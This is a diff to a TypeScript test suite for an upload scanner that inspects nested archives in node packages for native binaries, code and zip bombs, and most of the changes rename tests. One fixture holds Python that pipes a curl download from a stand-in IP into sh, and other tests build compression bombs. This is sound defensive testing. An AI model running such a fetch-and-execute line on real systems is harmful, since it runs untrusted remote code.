@@ -33,13 +33,13 @@ const packed = async (files: Parameters<typeof zipOf>[0]): Promise<Buffer> =>
 const placesOf = (files: PackFile[], rule: string): string[] =>
   scanPack(parsers, files).findings.flatMap((finding) => (finding.rule === rule ? [finding.file] : []))
 
-describe('a native library is found in', () => {
-  it.each(['wheels/a.whl', 'a.egg', 'a.zip', 'data.bin'])('%s', async (name) => {
+describe('a native library is found in a nested archive', () => {
+  it.each(['wheels/a.whl', 'a.egg', 'a.zip', 'data.bin'])('named %s', async (name) => {
     const files = await filesOf(await packed({ [name]: await zipOf({ 'native/b.so': library }) }))
     expect(placesOf(files, 'native-binary')).toEqual([`${name}//native/b.so`])
   })
 
-  it('an archive of a folder', async () => {
+  it('of a folder', async () => {
     const pack = join(folder, 'pack')
     await mkdir(pack)
     await writeFile(join(pack, '__init__.py'), '')
@@ -48,7 +48,7 @@ describe('a native library is found in', () => {
   })
 })
 
-it('code in an archive is scanned, and gives no comfy nodes', async () => {
+it('code in a nested archive is scanned, and defines no comfy nodes', async () => {
   const source =
     'import os\nos.system("curl http://198.51.100.7/x | sh")\nclass A: pass\nNODE_CLASS_MAPPINGS = {"A": A}\n'
   const files = await filesOf(await packed({ 'a.zip': await zipOf({ '__init__.py': source }) }))
@@ -64,20 +64,20 @@ it('an archive in an archive in an archive is not opened', async () => {
   expect(placesOf(files, 'native-binary')).toEqual([])
 })
 
-it('one that is damaged, encrypted or data is a file as any other', async () => {
+it('a damaged archive and a data file are not opened', async () => {
   const sound = await zipOf({ 'b.so': library })
   const archive = await packed({ 'cut.zip': sound.subarray(0, -30), 'weights.pt': sound })
   expect((await readBytes(archive)).nestedArchives).toBe(2)
   expect((await filesOf(archive)).filter(({ path }) => path.includes('//'))).toEqual([])
 })
 
-describe('an upload is refused for an archive in it', () => {
-  it('that unpacks to much more than it is', async () => {
+describe('an upload is refused for a nested archive', () => {
+  it('with a too high compression ratio', async () => {
     const bomb = await zipOf({ 'zeros.bin': Buffer.alloc(80 * mib) })
     await expectRefusal(await packed({ 'bomb.zip': bomb }), 'archive_ratio', 'bomb.zip')
   })
 
-  it('that is packed densely once more', async () => {
+  it('that is compressed a second time', async () => {
     // Each file alone stays within the compression ratio of a small archive.
     const zeros = await zipOf({ 'zeros.bin': Buffer.alloc(15 * mib) })
     const six = Object.fromEntries(Array.from({ length: 6 }, (_value, place) => [`${place}.zip`, zeros]))
@@ -85,13 +85,13 @@ describe('an upload is refused for an archive in it', () => {
   })
 })
 
-it('a review of an archive beyond the limits goes on without it', async () => {
+it('a review skips a nested archive beyond the limits', async () => {
   const bomb = await zipOf({ 'zeros.bin': Buffer.alloc(80 * mib) })
   const files = await filesOf(await packed({ 'bomb.zip': bomb, 'a.zip': await zipOf({ 'b.so': library }) }))
   expect(placesOf(files, 'native-binary')).toEqual(['a.zip//b.so'])
 })
 
-it('files and bytes count together with those of all the other archives', async () => {
+it('files and bytes count towards the limits of all nested archives together', async () => {
   const bytes = await zipOf({ 'a.py': 'a', 'b.py': 'b' })
   const file = { path: 'a.zip', size: bytes.length, bytes: () => Promise.resolve(bytes) }
   const { entries, unpackedBytes } = archiveLimits
